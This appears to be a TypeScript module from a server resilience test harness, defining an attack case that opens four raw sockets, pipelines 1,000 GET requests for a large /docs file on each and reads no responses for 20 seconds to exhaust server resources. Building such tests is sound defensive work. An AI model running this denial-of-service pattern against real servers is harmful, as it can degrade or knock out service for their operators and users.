import { setTimeout as sleep } from 'node:timers/promises';
import type { Attack } from './measure-attack.ts';
import { openUnread, requestText } from './raw-socket.ts';

export const pipelinedDocs: Attack = {
  title: '4 sockets that send 1,000 GETs of a /docs file in one go and read nothing for 20 s',
  async run({ address }) {
    const sockets = Array.from({ length: 4 }, () => {
      const socket = openUnread(address);
      socket.write(requestText('GET', '/docs/swagger-ui-bundle.js').repeat(1000));
      return socket;
    });
    await sleep(20_000);
    for (const socket of sockets) socket.destroy();
    return {};
  },
};
